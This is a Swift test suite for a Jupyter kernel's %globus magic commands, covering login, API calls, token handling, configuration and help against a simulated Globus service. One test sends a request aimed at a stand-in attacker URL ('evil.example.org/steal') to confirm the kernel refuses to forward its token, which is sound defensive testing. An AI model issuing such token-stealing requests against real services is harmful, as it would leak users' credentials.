import GlobusSimulator
import JSON
import JupyterKernel
import SimulatorSupport
import Testing
@testable import GlobusMagics
@testable import GlobusSDK

#if canImport(Glibc)
import Glibc
#endif

/// An interpreter pointed at an in-process simulator through its own variables (nothing in the
/// process changes, so these tests run in parallel), with a person who approves sign-ins.
final class SimulatedNotebook: @unchecked Sendable {
    let sim: RunningSimulator
    let interp: GlobusInterpreter
    let home: String
    private var count = 0

    init(_ sim: RunningSimulator, variables extra: [String: String] = [:]) {
        self.sim = sim
        var t = Array("/tmp/gk-nb-XXXXXX".utf8CString)
        home = String(cString: mkdtemp(&t)!)
        interp = GlobusInterpreter(variables: sim.variables.merging(["HOME": home]) { $1 }.merging(extra) { $1 })
    }

    /// Runs a cell on its own thread (libcurl blocks); a code prompt is answered by signing in
    /// as `person` in the simulator.
    func run(_ code: String, stdin: Bool = true, as person: String = "alice@uchicago.edu",
             answers: [String] = []) async throws -> (ExecutionOutcome, RecordingOutput) {
        count += 1
        let out = RecordingOutput()
        out.allowInput = stdin
        out.answers = answers
        let sim = self.sim
        out.person = { o in sim.approveBlocking(o.signInURL ?? "", as: person) }
        let context = ExecutionContext(executionCount: count, allowStdin: stdin)
        let interp = self.interp
        let outcome = try await onThread { interp.execute(code, context: context, output: out) }
        return (outcome, out)
    }

    /// The error a cell ended with.
    func failure(_ code: String, stdin: Bool = true) async throws -> ExecutionError? {
        if case .error(let e) = try await run(code, stdin: stdin).0 { return e }
        return nil
    }

    /// The token file of the kernel's app (the Python SDK's default path under this home).
    var tokenFile: String { home + "/.globus/app/\(GlobusSession.tutorialClientID)/globus-kernel/tokens.json" }
}

/// Runs `body` with a fresh simulator and notebook.
func withNotebook(_ variables: [String: String] = [:], _ body: (SimulatedNotebook) async throws -> Void) async throws {
    let sim = try await RunningSimulator()
    defer { sim.stop() }
    try await body(SimulatedNotebook(sim, variables: variables))
}

@Suite struct LoginCommandTests {
    @Test func pastedCodeLogsInAndSaysWho() async throws {
        try await withNotebook { nb in
            let (r, o) = try await nb.run("%globus login")
            #expect(r == .ok())
            #expect(o.prompts.count == 1 && o.prompts[0].1, "the code is asked for as hidden input")
            #expect(o.updated.last?["text/plain"]?.string == "Logged in as alice@uchicago.edu (Alice Researcher)")
            #expect(access(nb.tokenFile, F_OK) == 0)
            let again = try await nb.run("%globus login").1
            #expect(again.stdout.hasPrefix("Already logged in as alice@uchicago.edu"))
        }
    }

    @Test func withoutStdinTheLoginWaitsForItsCode() async throws {
        try await withNotebook { nb in
            let (r, o) = try await nb.run("%globus login", stdin: false)
            #expect(r == .ok())
            #expect(o.text.contains("%globus login --code PASTE_CODE_HERE"))
            let (waiting, shown) = try await nb.run("%globus whoami", stdin: false)
            guard case .error(let e) = waiting else { Issue.record("whoami did not wait for the login"); return }
            #expect(e.ename == "LoginRequired" && e.traceback.joined().contains("--code"))
            // The newest link is the one to open (each shown link starts a new login).
            let code = nb.sim.approveBlocking(shown.signInURL ?? o.signInURL!)
            let (finished, done) = try await nb.run("%globus login --code \(code)", stdin: false)
            #expect(done.displays.last?["text/plain"]?.string?.hasPrefix("Logged in as alice@uchicago.edu") == true, "\(finished) \(done.text)")
        }
    }

    @Test func mistakesAreUsageErrors() async throws {
        try await withNotebook { nb in
            let noPending = try await nb.failure("%globus login --code abc")
            #expect(noPending?.ename == "UsageError" && noPending?.evalue.contains("no login is waiting") == true)
            let v1 = try await nb.failure("%globus login --service nope")
            #expect(v1?.evalue.contains("not a valid value for --service") == true)
            let v2 = try await nb.failure("%globus login extra")
            #expect(v2?.evalue == "globus login: unexpected argument 'extra'")
            let v3 = try await nb.failure("%globus login --scope 'a[b'")
            #expect(v3?.ename == "UsageError")
        }
    }

    @Test func sessionOptionsReachTheAuthorizeURL() async throws {
        try await withNotebook { nb in
            let (_, o) = try await nb.run("%globus login --session-domain uchicago.edu --mfa --prompt-login", stdin: false)
            let url = o.signInURL ?? ""
            #expect(url.contains("session_required_single_domain=uchicago.edu"))
            #expect(url.contains("session_required_mfa=True") && url.contains("prompt=login"))
        }
    }
}

@Suite struct CallCommandTests {
    @Test func callsWithTheServicesTokenAndShowsJSON() async throws {
        try await withNotebook { nb in
            let (r, o) = try await nb.run("%globus login\n%globus call transfer GET /task_list -Q limit=2")
            #expect(r == .ok())
            #expect(o.results.last?["application/json"]?["DATA_TYPE"] == "task_list")
        }
    }

    @Test func formatsFiltersAndTheRedirectFlag() async throws {
        try await withNotebook { nb in
            _ = try await nb.run("%globus login")
            let names = try await nb.run("%globus call transfer GET /endpoint_search -Q filter_fulltext=tutorial --jq 'DATA[].display_name'").1
            #expect(names.results.last?["application/json"]?.array?.isEmpty == false)
            let table = try await nb.run("%globus call transfer GET /endpoint_search -Q filter_fulltext=tutorial -F table").1
            #expect(table.results.last?["text/plain"]?.string?.contains(" | ") == true)
            // -L is declared once and read back through its key, whichever spelling is typed.
            let call = try CallCommand(try CallCommand.declaration.arguments.parse(["transfer", "GET", "/x", "-L"], command: "t"), body: nil)
            #expect(call.request(service: .transfer).followRedirects)
        }
    }

    @Test func bodiesAndTheirEncodings() throws {
        func request(_ words: [String], body: String? = nil) throws -> ServiceRequest {
            try CallCommand(try CallCommand.declaration.arguments.parse(words, command: "t"), body: body).request(service: .transfer)
        }
        let json = try request(["transfer", "POST", "/x", "--body", #"{"a": 1}"#])
        #expect(json.headers.contains { $0 == ("Content-Type", "application/json") })
        let form = try request(["transfer", "POST", "/x", "--body", "a=1&b=2"])
        #expect(form.headers.contains { $0 == ("Content-Type", "application/x-www-form-urlencoded") })
        let cell = try request(["transfer", "POST", "/x"], body: "{\"DATA_TYPE\": \"mkdir\"}\n")
        #expect(cell.body.map { String(decoding: $0, as: UTF8.self) } == "{\"DATA_TYPE\": \"mkdir\"}\n")
        #expect(throws: MagicError.self) { try request(["transfer", "POST", "/x", "--body", "{}"], body: "{}") }
        #expect(throws: MagicError.self) { try request(["transfer", "POST", "/x", "--body", "a", "--body-file", "/etc/hostname"]) }
        #expect(throws: MagicError.self) { try request(["nope", "GET", "/x"]) }
        #expect(throws: MagicError.self) { try request(["transfer", "FETCH", "/x"]) }
    }

    @Test func aTokenNeverGoesToAnotherHost() async throws {
        try await withNotebook { nb in
            _ = try await nb.run("%globus login")
            let e = try await nb.failure("%globus call transfer GET https://evil.example.org/steal")
            #expect(e?.ename == "UsageError" && e?.evalue.contains("Refusing to send the transfer token") == true)
        }
    }

    @Test func apiErrorsNameStatusAndCode() async throws {
        try await withNotebook { nb in
            _ = try await nb.run("%globus login")
            let e = try await nb.failure("%globus call transfer GET /task/not-a-task")
            #expect(e?.ename == "GlobusAPIError")
            #expect(e?.evalue.hasPrefix("404") == true)
        }
    }
}

@Suite struct IdentityCommandTests {
    @Test func whoamiAndLinkedIdentities() async throws {
        try await withNotebook { nb in
            let who = try await nb.run("%globus whoami").1
            #expect(who.results.last?["text/plain"]?.string?.hasPrefix("alice@uchicago.edu\nName:  Alice Researcher") == true)
            let linked = try await nb.run("%globus whoami --linked-identities").1
            #expect(linked.prompts.count == 1, "view_identity_set needs a new consent")
            #expect(linked.results.last?["text/plain"]?.string?.contains("alice@uchicago.edu") == true)
        }
    }

    @Test func tokensListsLoginsButNeverTokens() async throws {
        try await withNotebook { nb in
            let v4 = try await nb.run("%globus tokens")
            #expect(v4.1.results.last?["text/plain"]?.string?.hasPrefix("No stored tokens") == true)
            _ = try await nb.run("%globus login")
            let o = try await nb.run("%globus tokens").1
            let text = o.results.last?["text/plain"]?.string ?? ""
            #expect(text.contains("transfer.api.globus.org") && text.contains("auth.globus.org"))
            let stored = try JSONTokenStorage(path: nb.tokenFile).all()
            for t in stored.values { #expect(!o.text.contains(t.accessToken) && !(o.results.last?.json.serialized.contains(t.accessToken) ?? true)) }
        }
    }

    @Test func consentAddsTheScopeAndLogoutRemovesEverything() async throws {
        try await withNotebook { nb in
            _ = try await nb.run("%globus login")
            let scope = "urn:globus:auth:scope:transfer.api.globus.org:all[*https://auth.globus.org/scopes/6c54cade-bde5-45c1-bdea-f4bd71dba2cc/data_access]"
            let (r, o) = try await nb.run("%globus consent '\(scope)'")
            #expect(r == .ok() && o.prompts.count == 1, "\(r) \(o.text)")
            #expect(o.signInURL?.contains("data_access") == true)
            let out = try await nb.run("%globus logout").1
            #expect(out.stdout.hasPrefix("Logged out: revoked and removed the tokens for auth.globus.org"))
            #expect(try JSONTokenStorage(path: nb.tokenFile).all().isEmpty)
            let v5 = try await nb.run("%globus logout")
            #expect(v5.1.stdout == "Nothing to log out of.\n")
        }
    }
}

@Suite struct ConfigCommandTests {
    @Test func showsAndChangesTheSettingsWithoutTouchingTheProcess() async throws {
        try await withNotebook { nb in
            let all = try await nb.run("%globus config").1.results.last?["application/json"]
            #expect(all?["environment"] == "production" && all?["storage"] == "json" && all?["auto_relogin"] == "false")
            #expect(all?["token_path"]?.string == nb.tokenFile)
            _ = try await nb.run("%globus config storage=memory\n%globus config environment=sandbox")
            let changed = try await nb.run("%globus config").1.results.last?["application/json"]
            #expect(changed?["storage"] == "memory" && changed?["environment"] == "sandbox" && changed?["token_path"] == "memory")
            #expect(getenv("GLOBUS_SDK_ENVIRONMENT") == nil, "the process environment is not changed")
            _ = try await nb.run("%globus config environment=")
            let v6 = try await nb.run("%globus config environment")
            #expect(v6.1.results.last?["text/plain"] == "production")
        }
    }

    @Test func badValuesAreUsageErrors() async throws {
        try await withNotebook { nb in
            let v7 = try await nb.failure("%globus config environment=mars")
            #expect(v7?.evalue.contains("environment must be one of") == true)
            let v8 = try await nb.failure("%globus config storage=floppy")
            #expect(v8?.ename == "UsageError")
            let v9 = try await nb.failure("%globus config colour=blue")
            #expect(v9?.evalue.contains("unknown key 'colour'") == true)
            let v10 = try await nb.failure("%globus config auto_relogin=maybe")
            #expect(v10?.evalue.contains("true or false") == true)
        }
    }

    @Test func memoryStorageKeepsNothingOnDisk() async throws {
        try await withNotebook { nb in
            let (r, _) = try await nb.run("%globus config storage=memory\n%globus login\n%globus call transfer GET /task_list")
            #expect(r == .ok())
            #expect(access(nb.tokenFile, F_OK) != 0)
        }
    }
}

@Suite struct ErrorKindTests {
    @Test func aBadVariableIsAConfigurationErrorWithItsFix() async throws {
        try await withNotebook(["GLOBUS_SDK_HTTP_TIMEOUT": "soon"]) { nb in
            let e = try await nb.failure("%globus whoami")
            #expect(e?.ename == "ConfigurationError")
            #expect(e?.traceback.contains("  %env GLOBUS_SDK_HTTP_TIMEOUT=VALUE   (or %env --unset GLOBUS_SDK_HTTP_TIMEOUT for the default)") == true)
            // Fixed with %env, the next cell works: the settings are remade from the variables.
            let v11 = try await nb.run("%env GLOBUS_SDK_HTTP_TIMEOUT=30\n%globus whoami")
            #expect(v11.0 == .ok())
        }
    }

    @Test func aSecretWithoutItsClientIDIsAConfigurationError() async throws {
        try await withNotebook(["GLOBUS_CLIENT_SECRET": "s3cr3t-value"]) { nb in
            let e = try await nb.failure("%globus login")
            #expect(e?.ename == "ConfigurationError" && e?.evalue.contains("GLOBUS_CLIENT_ID is not") == true)
            #expect(!(e.map { $0.evalue + $0.traceback.joined() } ?? "").contains("s3cr3t-value"))
        }
    }

    @Test func aDeadServiceIsANetworkError() async throws {
        try await withNotebook(["GLOBUS_SDK_SERVICE_URL_TRANSFER": "http://127.0.0.1:9/", "GLOBUS_SDK_HTTP_TIMEOUT": "2"]) { nb in
            _ = try await nb.run("%globus login")
            let e = try await nb.failure("%globus call transfer GET /task_list --no-retry")
            #expect(e?.ename == "NetworkError" && e?.traceback.last?.contains("Check the network connection") == true)
        }
    }

    @Test func everyKindHasItsOwnName() {
        #expect(MagicError.usage("x", command: nil).executionError.ename == "UsageError")
        #expect(MagicError.configuration("x", fix: "%env A=1").executionError.traceback == ["ConfigurationError: x", "Fix it with:", "  %env A=1"])
        #expect(MagicError.internal("x").executionError.ename == "InternalError")
        #expect(MagicError.globus(.auth("bad token response")).executionError.ename == "AuthError")
        #expect(MagicError.globus(.auth("x")).executionError.traceback.last == "  %globus login --force")
        #expect(MagicError.globus(.loginRequired(LoginRequired(reason: .noTokens, resourceServer: "r"))).executionError.ename == "LoginRequired")
        #expect(MagicError.globus(.storage("x")).executionError.ename == "TokenStorageError")
    }
}

@Suite struct HelpDemoAndVersionTests {
    @Test func helpIsMadeFromTheDeclarations() async throws {
        try await withNotebook { nb in
            let help = try await nb.run("%globus help call").1.results.last?["text/plain"]?.string ?? ""
            #expect(help.hasPrefix("Usage: %globus call SERVICE METHOD PATH"))
            for option in CallCommand.declaration.arguments.options { #expect(help.contains(option.names[0])) }
            #expect(help.contains("Examples:\n  %globus call transfer GET /task_list -Q limit=5"))
            let overview = try await nb.run("%globus").1.results.last?["text/plain"]?.string ?? ""
            for name in GlobusSubcommands.names { #expect(overview.contains("  \(name)")) }
            let v12 = try await nb.failure("%globus help nope")
            #expect(v12?.ename == "UsageError")
        }
    }

    @Test func completionComesFromTheSameDeclarations() {
        let interp = GlobusInterpreter(variables: [:])
        func completions(_ code: String) -> [String] { interp.complete(code, cursor: code.unicodeScalars.count).matches }
        #expect(completions("%globus lo") == ["login", "logout"])
        #expect(completions("%globus call transfer GET /task_list -F ") == OutputFormat.allCases.map(\.rawValue))
        #expect(completions("%globus login --service tr") == ["transfer"])
        #expect(completions("%globus config st") == ["storage"])
        #expect(completions("%globus demo o") == ["on", "off"])
        #expect(completions("%globus call -").contains("--jmespath"))
    }

    @Test func demoStatusAndVersionNeedNoSettings() async throws {
        // A broken setting does not stop the commands that do not use it.
        try await withNotebook(["GLOBUS_SDK_ENVIRONMENT": "mars"]) { nb in
            let v13 = try await nb.run("%globus demo status")
            #expect(v13.1.results.last?["text/plain"] == "Demo mode is off.")
            let v14 = try await nb.run("%globus version")
            #expect(v14.1.results.last?["text/plain"]?.string?.hasPrefix("globus-kernel ") == true)
            let v15 = try await nb.failure("%globus demo sideways")
            #expect(v15?.ename == "UsageError")
            let v16 = try await nb.failure("%globus demo off --as bob")
            #expect(v16?.ename == "UsageError")
            let v17 = try await nb.failure("%globus whoami")
            #expect(v17?.ename == "ConfigurationError")
        }
    }

    @Test func twoNotebooksWithDifferentSettingsRunAtOnce() async throws {
        // Settings are values: two interpreters in one process, one per simulator, side by side.
        let a = try await RunningSimulator(), b = try await RunningSimulator()
        defer { a.stop(); b.stop() }
        let na = SimulatedNotebook(a), nb = SimulatedNotebook(b)
        async let ra = na.run("%globus login\n%globus whoami", as: "alice@uchicago.edu")
        async let rb = nb.run("%globus login\n%globus whoami", as: "bob@globusid.org")
        let (oa, ob) = try await (ra.1, rb.1)
        #expect(oa.results.last?["text/plain"]?.string?.hasPrefix("alice@uchicago.edu") == true)
        #expect(ob.results.last?["text/plain"]?.string?.hasPrefix("bob@globusid.org") == true)
    }
}
